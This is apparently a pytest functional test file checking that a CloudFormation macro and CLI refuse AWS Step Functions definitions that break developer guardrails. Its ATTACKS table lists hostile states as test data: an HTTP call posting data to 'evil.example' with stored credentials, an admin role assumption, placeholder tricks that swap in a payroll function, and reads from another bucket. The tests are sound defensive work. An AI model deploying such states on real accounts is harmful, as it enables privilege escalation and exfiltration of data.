"""
Guardrails against whoever holds the developers' rights: at the desk, and in the macro when the desk is left out.

Past the desk a definition is uploaded and a change set made by hand, as anybody can who may push.
"""

from __future__ import annotations

import json
from zlib import crc32

import pytest

from tests.functional.pushing import HELLO, machine, template
from workflow_updater.cli import main

RESERVE = "arn:aws:lambda:eu-central-1:111122223333:function:reserve"
GUARDRAILS = {
    "Resources": ["arn:aws:states:::lambda:invoke", "arn:aws:states:::s3:*"],
    "Targets": {"FunctionName": ["${ReserveArn}"], "Bucket": ["orders"]},
    "Limits": {"States": 20, "Nesting": 3, "MaxConcurrency": 10},
}


def one(state: object, name: str = "A") -> dict:
    return {"StartAt": name, "States": {name: state}}


def inner(state: object) -> dict:
    return one(state, f"Inner {crc32(json.dumps(state).encode())}")  # AWS wants each name once in a definition


def invoke(function: object = "${ReserveArn}", **more: object) -> dict:
    parameters = {"FunctionName": function}
    return {"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke", "Parameters": parameters, **more, "End": True}


def call(resource: str, **parameters: object) -> dict:
    return {"Type": "Task", "Resource": resource, "Parameters": parameters, "End": True}


def mapped(state: object, concurrency: int = 2, **more: object) -> dict:
    config = {"Mode": "DISTRIBUTED", "ExecutionType": "STANDARD"}
    processor = {"ProcessorConfig": config, **inner(state)}
    return {"Type": "Map", "ItemProcessor": processor, "MaxConcurrency": concurrency, **more, "End": True}


def parallel(state: object) -> dict:
    return {"Type": "Parallel", "Branches": [inner(state)], "End": True}


PAYROLL = "arn:aws:lambda:eu-central-1:111122223333:function:payroll"
HTTP = call(
    "arn:aws:states:::http:invoke",
    ApiEndpoint="https://evil.example",
    Method="POST",
    Authentication={"ConnectionArn": "arn:aws:events:eu-central-1:111122223333:connection/c/1"},
)
EXECUTION = call(
    "arn:aws:states:::states:startExecution",
    StateMachineArn="arn:aws:states:eu-central-1:111122223333:stateMachine:other",
)
ATTACKS = {
    "another function": (invoke(PAYROLL), "G106"),
    "the function itself": ({"Type": "Task", "Resource": PAYROLL, "End": True}, "G106"),
    "another placeholder": (invoke("${PayrollArn}"), "G106"),
    "a placeholder that completes a name": (invoke(PAYROLL.replace("payroll", "${Payroll}")), "G106"),
    "a placeholder beside the allowed one": (invoke("${ReserveArn}${Empty}"), "G106"),
    "a placeholder as the resource": ({"Type": "Task", "Resource": "${PayrollArn}", "End": True}, "G106"),
    "a field that a placeholder completes": ({"Type": "Pass", "Comment${Empty}": "x", "End": True}, "G108"),
    "a computed function": (call("arn:aws:states:::lambda:invoke", **{"FunctionName.$": "$.f"}), "G107"),
    "the internet": (HTTP, "G103"),
    "another workflow": (EXECUTION, "G104"),
    "another role": (invoke(Credentials={"RoleArn": "arn:aws:iam::111122223333:role/admin"}), "G105"),
    "a wide map": (mapped(invoke(), concurrency=1000), "G303"),
    "inside a map": (mapped(HTTP), "G103"),
    "inside a branch": (parallel(invoke(PAYROLL)), "G106"),
    "inside a branch of a map of a branch": (parallel(mapped(parallel(EXECUTION))), "G104"),
    "another bucket to read": (
        mapped(invoke(), ItemReader={"Resource": "arn:aws:states:::s3:getObject", "Parameters": {"Bucket": "x"}}),
        "G106",
    ),
}


def guarded(**transform: object) -> dict:
    own = machine(
        DefinitionSubstitutions={"ReserveArn": RESERVE, "PayrollArn": PAYROLL, "Payroll": "payroll", "Empty": ""}
    )
    if not transform:
        own["Metadata"]["Workflow"]["Guardrails"] = GUARDRAILS
    document = template(Orders=own)
    document["Transform"][0]["Parameters"] |= transform
    return document


def past_the_desk(account, stack: str, document: dict, definition: object) -> dict:
    """Return the change set that was made by hand, once it is made."""
    stacks = account.cloud.client("cloudformation")
    account.cloud.client("s3").put_object(
        Bucket=account.bucket, Key="orders/by-hand.json", Body=json.dumps(definition).encode()
    )
    stacks.create_change_set(
        StackName=stack,
        ChangeSetName=f"by-hand-{crc32(json.dumps(definition).encode())}",
        TemplateBody=json.dumps(document),
        Parameters=[{"ParameterKey": "Workflow", "ParameterValue": f"s3://{account.bucket}/orders/by-hand.json"}],
    )
    name = f"by-hand-{crc32(json.dumps(definition).encode())}"
    while (found := stacks.describe_change_set(StackName=stack, ChangeSetName=name))["Status"] in {
        "CREATE_PENDING",
        "CREATE_IN_PROGRESS",
    }:
        pass
    stacks.delete_change_set(StackName=stack, ChangeSetName=name)
    return dict(found)


@pytest.fixture(scope="module")
def document() -> dict:
    return guarded()


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_macro_refuses_what_is_not_allowed_even_past_the_desk(account, document, attack):
    state, rule = ATTACKS[attack]
    name = f"guarded-{crc32(attack.encode())}"
    account.create_stack(name, document)

    found = past_the_desk(account, name, document, {**one(state), "Comment": f"noqa: {rule}"})

    assert "FAILED" == found["Status"]
    assert f"{rule} in Orders at /States/A" in found["StatusReason"]


def test_the_macro_injects_what_is_allowed(account, document):
    account.create_stack("guarded", document)

    found = past_the_desk(account, "guarded", document, one(mapped(invoke())))

    assert "CREATE_COMPLETE" == found["Status"], found.get("StatusReason")


@pytest.mark.parametrize("verb", ["deploy", "plan"])
def test_the_desk_refuses_the_same_before_anything_is_published(account, document, capsys, verb):
    name = f"desk-{verb}"
    account.create_stack(name, document)
    account.write("attack.asl.json", one(parallel(invoke(PAYROLL))))
    s3 = account.cloud.client("s3")
    before = s3.list_object_versions(Bucket=account.bucket).get("Versions", [])

    code = main([verb, "--stack", name, "--workflow", "attack.asl.json"])

    assert code == 4
    told = capsys.readouterr().err
    assert "attack.asl.json:14:17 G106 FunctionName" in told
    assert "is not what the guardrails of" in told
    assert before == s3.list_object_versions(Bucket=account.bucket).get("Versions", [])
    assert [] == account.change_sets(name)


def test_an_allowed_workflow_is_pushed_and_runs(account, document):
    account.create_stack("allowed", document)

    assert account.push("allowed", one(invoke())) == 0
    assert RESERVE in json.dumps(account.live("allowed"))


def test_guardrails_in_s3_hold_in_the_version_that_the_template_pins(account):
    s3 = account.cloud.client("s3")
    key = "guardrails/orders.json"
    pinned = s3.put_object(Bucket=account.bucket, Key=key, Body=json.dumps(GUARDRAILS).encode())["VersionId"]
    s3.put_object(Bucket=account.bucket, Key=key, Body=b'{"Resources": ["*"], "Targets": {"*": ["*"]}}')
    document = guarded(Guardrails=f"s3://{account.bucket}/{key}?versionId={pinned}")
    account.create_stack("pinned", document)
    account.write("pinned.template", document)

    found = past_the_desk(account, "pinned", document, one(invoke(PAYROLL)))

    assert "G106 in Orders" in found["StatusReason"]
    assert account.push("pinned", one(invoke(PAYROLL)), "--template", "pinned.template") == 4
    assert account.push("pinned", one(invoke()), "--template", "pinned.template") == 0


def test_guardrails_that_a_developer_could_overwrite_are_refused(account):
    place = f"s3://{account.bucket}/orders/guardrails.json"
    document = guarded(Guardrails=place)
    account.create_stack("reachable", template())

    found = past_the_desk(account, "reachable", document, HELLO)

    assert f"G003 in Orders at /Transform/Parameters/Guardrails: {place}" in found["StatusReason"]


def test_a_trusted_placeholder_that_whoever_pushes_can_set_is_refused(account):
    document = guarded()
    document["Resources"]["Orders"]["Properties"]["DefinitionSubstitutions"]["ReserveArn"] = {"Ref": "Size"}
    account.create_stack("settable", template())

    found = past_the_desk(account, "settable", document, one(invoke()))

    assert "G004 in Orders at /Properties/DefinitionSubstitutions/ReserveArn" in found["StatusReason"]


def test_guardrails_that_are_not_there_let_nothing_pass(account, capsys):
    document = guarded(Guardrails=f"s3://{account.bucket}/guardrails/nobody-wrote-them.json")
    account.create_stack("absent", template())

    found = past_the_desk(account, "absent", document, HELLO)

    assert "G002 in Orders at /Transform/Parameters/Guardrails: there is no object" in found["StatusReason"]
